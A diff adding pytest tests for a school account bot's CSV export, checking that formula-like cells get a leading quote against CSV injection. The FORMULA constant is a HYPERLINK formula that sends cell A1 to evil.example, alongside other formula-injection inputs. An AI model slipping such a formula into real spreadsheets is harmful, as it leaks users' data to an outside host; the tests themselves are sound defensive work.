@@ -19,6 +19,7 @@ from argon2.exceptions import VerifyMismatchError
 
 from bot.cli import main
 from bot.security import KeyedHasher, load_or_create_server_secret, normalise_identifiant
+from bot.staff import spreadsheet_cell
 from bot.throttle import identifiant_key
 from storage.accounts import ActivationRecord, SqliteAccountDirectory
 from storage.db import Database
@@ -38,6 +39,7 @@ def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     for name in ("TELEGRAM_BOT_TOKEN", "TELEGRAM_BOT_USERNAME", "STAFF_TELEGRAM_IDS"):
         monkeypatch.delenv(name, raising=False)
     values = {
+        "ENT_BOT_HOME": str(tmp_path),  # no .env there: not even the project folder's is read
         "DATABASE_PATH": str(tmp_path / "data" / "bot.sqlite3"),
         "SERVER_SECRET_FILE": str(tmp_path / "data" / "server.key"),
         "SCHOOL_CONFIG": str(DATA / "school.toml"),
@@ -311,6 +313,78 @@ def test_export_round_trip(imported: Path, capsys: pytest.CaptureFixture[str]) -
     text = target.read_text(encoding="utf-8-sig")
     assert "$argon2" not in text and all(account[1] not in text for account in ACCOUNTS)
     assert run(["accounts", "export", str(imported / "nope" / "x.csv")], capsys)[0] == 2
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+
+
+def test_export_neutralises_formulas_and_round_trips(
+    env: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """OWASP « CSV Injection »: a cell starting with = + - @ (tab, CR) gets a leading quote,
+    so a spreadsheet shows it as text; removing that one quote gives the stored value back."""
+    rows = [
+        ("eve.attaque", "Xq7-Tb4k-Wpz", "eleve", FORMULA, "+33 6 12", "@SUM(A1:A9)"),
+        ("-cmd.x", "Rm2-Hv8n-Zcw", "parent", "'t Hooft", "=1+1;=2", "Lycée; « test »"),
+    ]
+    assert run(["accounts", "import", str(write_accounts_csv(env / "c.csv", rows))], capsys)[0] == 0
+    target = env / "etat.csv"
+    assert run(["accounts", "export", str(target)], capsys)[0] == 0
+    with target.open(encoding="utf-8-sig", newline="") as handle:
+        exported = {row["prenom"]: row for row in csv.DictReader(handle, delimiter=";")}
+    eve = exported["'" + FORMULA]
+    assert (eve["identifiant"], eve["nom"], eve["etablissement"]) == (
+        "eve.attaque",
+        "'+33 6 12",
+        "'@SUM(A1:A9)",
+    )
+    other = exported["'t Hooft"]  # a leading quote that is part of the name is left alone
+    assert (other["identifiant"], other["nom"], other["etablissement"]) == (
+        "'-cmd.x",
+        "'=1+1;=2",
+        "Lycée; « test »",
+    )
+    originals = {cell for row in rows for cell in row}
+    for row in exported.values():
+        for column in ("identifiant", "prenom", "nom", "etablissement"):
+            value = row[column]
+            restored = value[1:] if value[:2] in {"'=", "'+", "'-", "'@"} else value
+            assert restored in originals
+    raw = target.read_text(encoding="utf-8-sig")
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.splitlines())
+    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("", ""),
+        ("Léa", "Léa"),
+        ("a=b", "a=b"),
+        ("'t Hooft", "'t Hooft"),
+        ("2026-01-02 03:04", "2026-01-02 03:04"),
+    ],
+)
+def test_spreadsheet_cell(cell: str, written: str) -> None:
+    assert spreadsheet_cell(cell) == written
+
+
+def test_an_export_is_not_an_import_file(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The export has no provisional password column: importing it is refused as a whole, so
+    its quote prefixes never reach the accounts."""
+    line = ("eve.x", "Xq7-Tb4k-Wpz", "eleve", FORMULA, "N", "E")
+    path = write_accounts_csv(env / "c.csv", [line])
+    assert run(["accounts", "import", str(path)], capsys)[0] == 0
+    target = env / "etat.csv"
+    assert run(["accounts", "export", str(target)], capsys)[0] == 0
+    code, _, err = run(["accounts", "import", str(target)], capsys)
+    assert code == 2 and "mot_de_passe_provisoire" in err
 
 
 def test_stats_funnel(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
